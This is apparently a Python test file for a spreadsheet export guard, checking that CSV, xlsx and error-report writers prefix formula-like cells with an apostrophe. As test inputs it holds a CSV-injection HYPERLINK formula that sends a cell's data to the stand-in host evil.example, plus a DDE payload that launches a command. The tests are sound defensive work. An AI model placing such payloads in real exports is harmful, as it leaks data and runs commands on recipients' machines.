"""The formula guard itself, and the two writers every sheet export goes through (CSV, xlsx, error report)."""

import io

import pytest
from python_calamine import CalamineWorkbook

from guanai.sheets.reading import read_sheet
from guanai.sheets.writing import Column, SheetOut, cell_safe, csv_write, error_report_write, xlsx_write

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


@pytest.mark.parametrize("text", [ATTACK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_like_text_gets_an_apostrophe(text):
    assert cell_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["王秀英", "-30.00", "+86", "1,234.50", 5, -7, None, "a=b", ""])
def test_other_values_stay_as_they_are(value):
    assert cell_safe(value) == value


def xlsx_rows(data: bytes) -> list[list]:
    return CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()


def test_csv_and_xlsx_writers_guard_every_text_cell():
    columns = [Column("姓名"), Column("@header")]
    out = io.StringIO()
    csv_write(out, columns=columns, rows=[[ATTACK, "-5"]])
    lines = out.getvalue().splitlines()
    assert lines[0] == "姓名,'@header"
    assert lines[1].startswith("\"'=HYPERLINK(")
    buffer = io.BytesIO()
    xlsx_write(buffer, sheets=[SheetOut(name="s", columns=columns, rows=[[ATTACK, -5]], title_rows=[["=1+1"]])])
    rows = xlsx_rows(buffer.getvalue())
    assert rows[0][0] == "'=1+1"
    assert rows[1] == ["姓名", "'@header"]
    assert rows[2] == ["'" + ATTACK, -5]


def test_the_error_report_guards_the_rejected_rows_as_written():
    buffer = io.BytesIO()
    xlsx_write(buffer, sheets=[SheetOut(name="名单", columns=[Column("姓名"), Column("身份证号")],
                                        rows=[["@cmd", "bad"]])])
    sheet = read_sheet(io.BytesIO(buffer.getvalue()), filename="名单.xlsx")
    report = io.BytesIO()
    error_report_write(report, sheet=sheet, header_index=0, reasons={2: "身份证号无效"})
    rows = xlsx_rows(report.getvalue())
    assert rows[1][:3] == ["'@cmd", "bad", "身份证号无效"]
